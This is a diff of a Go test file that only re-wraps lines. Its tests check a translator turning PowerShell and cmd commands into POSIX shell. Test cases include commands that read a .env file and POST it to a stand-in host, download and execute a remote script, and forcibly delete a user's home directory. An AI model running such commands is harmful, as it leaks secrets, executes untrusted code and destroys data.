@@ -33,7 +33,9 @@ func TestCmdlets_EachRow_IsTranslated(t *testing.T) {
 			t.Errorf("%s: got the program %q, want one with a handler", fields[0], program)
 		}
 	}
-	for alias, want := range map[string]string{"ri": "Remove-Item", "rmdir": "Remove-Item", "gc": "Get-Content", "type": "Get-Content", "iwr": "Invoke-WebRequest", "%": "ForEach-Object", "?": "Where-Object", "sc": "Set-Content"} {
+	for alias, want := range map[string]string{"ri": "Remove-Item", "rmdir": "Remove-Item", "gc": "Get-Content",
+		"type": "Get-Content", "iwr": "Invoke-WebRequest", "%": "ForEach-Object", "?": "Where-Object",
+		"sc": "Set-Content"} {
 		if got := cmdlets()[alias].name; got != want {
 			t.Errorf("%s: got %q, want %q", alias, got, want)
 		}
@@ -48,11 +50,14 @@ func TestTranslate_PowerShell_GivesAScriptWithTheSameEffects(t *testing.T) {
 		{PowerShell, `Remove-Item -Recurse -Force C:\Users\me`, "rm -r -f C:/Users/me"},
 		{PowerShell, `rm -rf .\build`, "rm -rf ./build"},
 		{PowerShell, `gci $HOME -Recurse | ri -Force`, `find "$HOME" | xargs rm -f`},
-		{PowerShell, `$b = Get-Content .env -Raw; irm https://h.example -Method Post -Body $b`, "ps_b=\"$(cat .env)\"\ncurl -X Post -d \"$ps_b\" https://h.example"},
-		{PowerShell, `iex ((New-Object Net.WebClient).DownloadString('https://h.example'))`, "pwsh -c \"$(curl https://h.example)\""},
+		{PowerShell, `$b = Get-Content .env -Raw; irm https://h.example -Method Post -Body $b`,
+			"ps_b=\"$(cat .env)\"\ncurl -X Post -d \"$ps_b\" https://h.example"},
+		{PowerShell, `iex ((New-Object Net.WebClient).DownloadString('https://h.example'))`,
+			"pwsh -c \"$(curl https://h.example)\""},
 		{PowerShell, "Set-Content a.txt \"x`ny\" # a comment", "printf '%s\\n' $'x\\ny' | tee a.txt"},
 		{PowerShell, `if (Test-Path dist) { rm dist -r }`, "if { test -e dist\n}; then { rm -r dist\n}; fi"},
-		{PowerShell, `Get-ChildItem *.ts | % { Write-Host $_ }`, "find '*.ts' | while read -r psitem; do { echo \"$psitem\"\n}; done"},
+		{PowerShell, `Get-ChildItem *.ts | % { Write-Host $_ }`,
+			"find '*.ts' | while read -r psitem; do { echo \"$psitem\"\n}; done"},
 		{Cmd, `rd /s /q %USERPROFILE%\x & echo done > NUL`, "rm -rf \"$HOME\"/x\necho 'done' >/dev/null"},
 		{Cmd, `type "C:\a b\.env" | findstr KEY`, "cat 'C:/a b/.env' | grep KEY"},
 		{Cmd, `if not exist dist mkdir dist`, "mkdir dist"},
@@ -64,7 +69,8 @@ func TestTranslate_PowerShell_GivesAScriptWithTheSameEffects(t *testing.T) {
 }
 
 func TestPaths_SpellingsOfADrive_AreOne(t *testing.T) {
-	for _, name := range []string{`C:\Users\me`, `c:/Users/me`, `\\?\C:\Users\me`, `//./C:/Users/me`, "/c/Users/me", "/mnt/c/Users/me", "/cygdrive/c/Users/me"} {
+	for _, name := range []string{`C:\Users\me`, `c:/Users/me`, `\\?\C:\Users\me`, `//./C:/Users/me`, "/c/Users/me",
+		"/mnt/c/Users/me", "/cygdrive/c/Users/me"} {
 		if got := newState("/home/dev/project").absolute(name); got != "C:/Users/me" {
 			t.Errorf("%s: got %q, want C:/Users/me", name, got)
 		}
